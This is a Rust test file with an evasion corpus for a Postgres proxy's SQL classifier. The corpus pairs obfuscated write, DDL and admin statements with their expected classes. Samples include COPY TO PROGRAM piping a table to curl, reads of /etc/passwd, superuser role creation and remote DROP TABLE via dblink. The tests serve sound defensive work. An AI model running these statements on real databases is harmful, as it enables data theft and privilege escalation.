//! The evasion corpus: statements written to slip a write, a schema change
//! or an administrative act past a classifier — comments, nested comments,
//! dollar quoting, escape and Unicode strings, case and whitespace tricks,
//! CTE writes, functions, multi-statements, prepared statements,
//! `standard_conforming_strings = off` — each with the class it must get.
//! The invariant under test: nothing that writes is ever classed as a read.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "tests"
)]

use SqlClass::{Admin, Ddl, Export, Read, Write};
use countersign_pgproxy::classify::{
    Facts, FunctionCatalog, NoSession, ParseOptions, SessionLookup, SqlClass, classify, facts,
    resolve,
};
use std::sync::Arc;

/// A catalog like a fresh database's, plus user functions.
fn oracle() -> FunctionCatalog {
    let builtins = [
        "count",
        "lower",
        "upper",
        "now",
        "coalesce",
        "sum",
        "max",
        "min",
        "length",
        "substr",
        "concat",
        "pg_sleep",
        "random",
        "to_char",
        "abs",
        "md5",
        "string_agg",
        "array_agg",
        "json_build_object",
        "version",
        "current_setting",
        "format",
        "generate_series",
        "pg_backend_pid",
        "row_to_json",
        "jsonb_agg",
        "date_trunc",
        "nextval",
        "set_config",
        "pg_terminate_backend",
        "lo_export",
        "lo_import",
        "pg_read_file",
        "query_to_xml",
        "pg_notify",
        "setval",
        "txid_current",
    ];
    let mut rows: Vec<(String, String, bool)> = builtins
        .iter()
        .map(|n| ("pg_catalog".to_owned(), (*n).to_owned(), false))
        .collect();
    rows.push(("public".into(), "purge_old_rows".into(), true));
    rows.push(("public".into(), "stable_report".into(), false));
    rows.push(("public".into(), "dblink_exec".into(), true));
    rows.push(("public".into(), "dblink".into(), true));
    FunctionCatalog::from_rows(rows)
}

struct Case {
    sql: &'static str,
    class: SqlClass,
    flag: Option<&'static str>,
    scs_off: bool,
}

const fn c(sql: &'static str, class: SqlClass) -> Case {
    Case {
        sql,
        class,
        flag: None,
        scs_off: false,
    }
}

const fn f(sql: &'static str, class: SqlClass, flag: &'static str) -> Case {
    Case {
        sql,
        class,
        flag: Some(flag),
        scs_off: false,
    }
}

const fn off(sql: &'static str, class: SqlClass) -> Case {
    Case {
        sql,
        class,
        flag: None,
        scs_off: true,
    }
}

const CORPUS: &[Case] = &[
    // ── plain reads ────────────────────────────────────────────────────
    c("SELECT 1", Read),
    c("select * from customers where id = 1", Read),
    c(
        "SELECT count(*) FROM orders o JOIN customers c ON c.id = o.customer_id",
        Read,
    ),
    c("WITH t AS (SELECT 1 AS x) SELECT x FROM t", Read),
    c("SELECT lower(name), now() FROM customers", Read),
    c("SHOW search_path", Read),
    c("BEGIN", Read),
    c("COMMIT", Read),
    c("VALUES (1), (2)", Read),
    c("EXPLAIN SELECT * FROM orders", Read),
    c("SELECT stable_report()", Read),
    f("LISTEN events", Read, "listen"),
    c("SELECT 'DELETE FROM orders'", Read),
    c("SELECT $$DROP TABLE orders$$", Read),
    c("SELECT 1 /* ; DELETE FROM orders */", Read),
    c("SELECT 1 -- ; DROP TABLE orders", Read),
    c("SELECT E'\\'; DROP TABLE orders; --'", Read),
    c("SELECT U&'\\0044ROP TABLE orders'", Read),
    c("SELECT \"delete\" FROM (SELECT 1 AS \"delete\") s", Read),
    c(
        "SELECT 1 /* outer /* nested; DELETE FROM orders */ still comment */",
        Read,
    ),
    c("SELECT $tag$ $$ ; TRUNCATE orders; $$ $tag$", Read),
    // ── DML, however it is dressed ─────────────────────────────────────
    c("INSERT INTO orders (id) VALUES (1)", Write),
    c("update orders set total = 0 where id = 1", Write),
    f("DELETE FROM orders", Write, "no_where"),
    f("UPDATE orders SET total = 0", Write, "no_where"),
    c("DeLeTe FrOm orders WHERE id = 1", Write),
    c("  \n\t DELETE\n\tFROM\n orders WHERE id = 2", Write),
    c("/* harmless */ DELETE FROM orders WHERE id = 3", Write),
    c(
        "/* a /* nested */ comment */ UPDATE orders SET total = 1 WHERE id = 1",
        Write,
    ),
    c("-- comment\nINSERT INTO orders VALUES (9)", Write),
    f(
        "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone",
        Write,
        "cte_write",
    ),
    f(
        "WITH x AS (UPDATE orders SET total = 0 WHERE id = 1 RETURNING id) SELECT * FROM x",
        Write,
        "cte_write",
    ),
    c(
        "WITH a AS (SELECT 1), b AS (INSERT INTO orders (id) SELECT 1 FROM a RETURNING id) SELECT * FROM b",
        Write,
    ),
    c(
        "SELECT * FROM (WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING 1) SELECT * FROM d) s",
        Write,
    ),
    c(
        "MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN DELETE",
        Write,
    ),
    c(
        "INSERT INTO orders SELECT * FROM orders_archive ON CONFLICT DO NOTHING",
        Write,
    ),
    f("SELECT * FROM orders FOR UPDATE", Write, "row_lock"),
    f(
        "SELECT 1; DELETE FROM orders WHERE id = 1",
        Write,
        "multi_statement",
    ),
    c("SELECT 1;DELETE FROM orders WHERE id = 1;SELECT 2", Write),
    c("SELECT 'a'';DELETE FROM orders WHERE id = 1; --'", Read),
    c("SELECT $$a$$; DELETE FROM orders WHERE id = 1", Write),
    c(
        "SELECT E'x\\''; DELETE FROM orders WHERE id = 1; --'",
        Write,
    ),
    f("TRUNCATE orders", Write, "truncate"),
    f(
        "truncate table ONLY orders RESTART IDENTITY",
        Write,
        "truncate",
    ),
    f("SELECT nextval('orders_id_seq')", Write, "sequence"),
    f("SELECT setval('orders_id_seq', 1)", Write, "sequence"),
    f("SELECT purge_old_rows()", Write, "volatile_function"),
    f("SELECT public.purge_old_rows()", Write, "volatile_function"),
    f(
        "SELECT * FROM orders WHERE id = (SELECT purge_old_rows())",
        Write,
        "volatile_function",
    ),
    f("SELECT not_yet_created()", Write, "unknown_function"),
    f("SELECT pg_notify('ch', 'x')", Write, "notify"),
    f("NOTIFY ch, 'payload'", Write, "notify"),
    f("CALL archive_orders()", Write, "call"),
    f("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", Write, "lock"),
    f("COPY orders FROM STDIN", Write, "copy_from"),
    c("EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1", Write),
    f(
        "PREPARE p1 AS DELETE FROM orders WHERE id = $1",
        Write,
        "prepare",
    ),
    c("PREPARE p2 AS SELECT 1; EXECUTE p2", Read),
    c(
        "PREPARE p3 (int) AS UPDATE orders SET total = $1; EXECUTE p3(0)",
        Write,
    ),
    f(
        "DECLARE c CURSOR FOR SELECT purge_old_rows()",
        Write,
        "volatile_function",
    ),
    // ── exports ────────────────────────────────────────────────────────
    f("COPY orders TO STDOUT", Export, "copy_to"),
    f(
        "copy (select * from customers) to stdout with (format csv)",
        Export,
        "copy_to",
    ),
    f(
        "COPY (DELETE FROM orders RETURNING *) TO STDOUT",
        Export,
        "copy_to",
    ),
    f(
        "SELECT table_to_xml('customers', true, false, '')",
        Export,
        "table_by_name",
    ),
    // ── DDL ────────────────────────────────────────────────────────────
    c("CREATE TABLE t (id int)", Ddl),
    f("DROP TABLE orders", Ddl, "drop"),
    f("drop table if exists orders cascade", Ddl, "drop"),
    c("ALTER TABLE orders ADD COLUMN note text", Ddl),
    c("CREATE INDEX ON orders (id)", Ddl),
    f("SELECT * INTO orders_copy FROM orders", Ddl, "select_into"),
    c("CREATE TABLE c2 AS SELECT * FROM customers", Ddl),
    c("CREATE VIEW v AS SELECT email FROM customers", Ddl),
    c(
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM orders RETURNING 1 $$",
        Ddl,
    ),
    c(
        "CREATE RULE r AS ON SELECT TO orders DO INSTEAD SELECT * FROM customers",
        Ddl,
    ),
    c(
        "CREATE TRIGGER t BEFORE INSERT ON orders FOR EACH ROW EXECUTE FUNCTION f()",
        Ddl,
    ),
    c("COMMENT ON TABLE orders IS 'x'", Ddl),
    c("SELECT 1; DROP TABLE orders", Ddl),
    c("VACUUM orders", Ddl),
    c("REFRESH MATERIALIZED VIEW mv", Ddl),
    c("ALTER TABLE orders RENAME TO orders_old", Ddl),
    c("EXPLAIN CREATE TABLE t2 AS SELECT 1", Ddl),
    // ── administration ────────────────────────────────────────────────
    f("ALTER SYSTEM SET work_mem = '1GB'", Admin, "alter_system"),
    f("SET ROLE postgres", Admin, "set_role"),
    f("set local role postgres", Admin, "set_role"),
    f("SET SESSION AUTHORIZATION postgres", Admin, "set_role"),
    f("RESET ROLE", Admin, "set_role"),
    f(
        "SET session_replication_role = replica",
        Admin,
        "set_privileged",
    ),
    f(
        "SELECT set_config('role', 'postgres', false)",
        Admin,
        "set_config",
    ),
    f("SELECT pg_terminate_backend(123)", Admin, "signal_backend"),
    f(
        "SELECT pg_catalog.pg_terminate_backend(pid) FROM pg_stat_activity",
        Admin,
        "signal_backend",
    ),
    f("SELECT lo_export(1234, '/tmp/x')", Admin, "server_file"),
    f("SELECT lo_import('/etc/passwd')", Admin, "server_file"),
    f("SELECT pg_read_file('/etc/passwd')", Admin, "server_file"),
    f(
        "SELECT dblink_exec('dbname=x', 'DROP TABLE orders')",
        Admin,
        "remote_sql",
    ),
    f(
        "SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, false, '')",
        Admin,
        "sql_in_string",
    ),
    f(
        "COPY orders TO PROGRAM 'curl http://x'",
        Admin,
        "copy_program",
    ),
    f(
        "COPY orders FROM PROGRAM 'cat /etc/passwd'",
        Admin,
        "copy_program",
    ),
    f("COPY orders TO '/tmp/orders.csv'", Admin, "copy_file"),
    f("DO $$ BEGIN DELETE FROM orders; END $$", Admin, "do_block"),
    f(
        "do language plpgsql 'begin execute ''drop table orders''; end'",
        Admin,
        "do_block",
    ),
    f("GRANT ALL ON orders TO PUBLIC", Admin, "grant"),
    f("CREATE ROLE evil SUPERUSER", Admin, "role"),
    f("ALTER ROLE agent SUPERUSER", Admin, "role"),
    c("CREATE EXTENSION dblink", Admin),
    c("LOAD 'auto_explain'", Admin),
    c("CHECKPOINT", Admin),
    c("SELECT 1; ALTER SYSTEM SET fsync = off", Admin),
    c(
        "PREPARE p4 AS SELECT pg_terminate_backend(1); EXECUTE p4",
        Admin,
    ),
    f(
        "EXECUTE never_prepared",
        Admin,
        "unknown_prepared_statement",
    ),
    // ── standard_conforming_strings = off: backslashes escape ─────────
    off("SELECT 'a\\'; DELETE FROM orders WHERE id = 1; --'", Read),
    off(
        "SELECT 'a\\\\'; DELETE FROM orders WHERE id = 1; --'",
        Write,
    ),
    // The same text lexes as a read with the setting on, a write with it off.
    c("SELECT 'x\\'';DELETE FROM orders;--'", Read),
    off("SELECT 'x\\'';DELETE FROM orders;--'", Write),
];

#[test]
fn corpus_classes_are_exact_and_no_write_is_a_read() {
    assert!(CORPUS.len() >= 80, "corpus has {} statements", CORPUS.len());
    let o = oracle();
    let mut failures = Vec::new();
    for case in CORPUS {
        let opts = ParseOptions {
            standard_conforming_strings: !case.scs_off,
        };
        let got = match classify(case.sql, opts, &o) {
            Ok(c) => c,
            Err(e) => {
                failures.push(format!("{:?}: error {e}", case.sql));
                continue;
            }
        };
        if got.class != case.class {
            failures.push(format!(
                "{:?}: expected {}, got {} (flags {:?})",
                case.sql, case.class, got.class, got.flags
            ));
        }
        if let Some(flag) = case.flag
            && !got.flags.contains(flag)
        {
            failures.push(format!(
                "{:?}: missing flag {flag}, got {:?}",
                case.sql, got.flags
            ));
        }
        // The invariant, independently of the expected class.
        if case.class > Read {
            assert_ne!(got.class, Read, "{:?} was classed as a read", case.sql);
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn unparseable_statements_are_errors_not_reads() {
    let o = oracle();
    for sql in [
        "SELEC 1",
        "DELETE FROM",
        "SELECT 'unterminated",
        "SELECT $$ never closed",
        "SELECT 1 /* unterminated comment",
        "\u{1}",
    ] {
        assert!(
            classify(sql, ParseOptions::default(), &o).is_err(),
            "{sql:?}"
        );
    }
}

#[test]
fn tables_are_qualified_and_ctes_are_not_tables() {
    let o = oracle();
    let c = classify(
        "WITH recent AS (SELECT * FROM orders) SELECT * FROM recent JOIN sales.customers c ON true",
        ParseOptions::default(),
        &o,
    )
    .unwrap();
    let tables: Vec<_> = c.tables.iter().map(String::as_str).collect();
    assert_eq!(tables, ["public.orders", "sales.customers"]);
}

struct Prepared(Vec<(String, Arc<Facts>)>);

impl SessionLookup for Prepared {
    fn prepared(&self, name: &str) -> Option<Arc<Facts>> {
        self.0
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, f)| f.clone())
    }
    fn cursor(&self, name: &str) -> Option<Arc<Facts>> {
        self.prepared(name)
    }
}

#[test]
fn execute_takes_the_class_of_what_was_prepared_earlier_in_the_session() {
    let o = oracle();
    let body = facts("DELETE FROM orders WHERE id = $1", ParseOptions::default()).unwrap();
    let session = Prepared(vec![("del".into(), Arc::new(body))]);
    let exec = facts("EXECUTE del(1)", ParseOptions::default()).unwrap();
    let c = resolve(&exec, &o, &session, &[]);
    assert_eq!(c.class, Write);
    assert!(c.tables.contains("public.orders"));
    assert_eq!(resolve(&exec, &o, &NoSession, &[]).class, Admin);
    // FETCH from a cursor reads the cursor's tables.
    let fetch = facts("FETCH 10 FROM del", ParseOptions::default()).unwrap();
    assert!(
        resolve(&fetch, &o, &session, &[])
            .tables
            .contains("public.orders")
    );
}
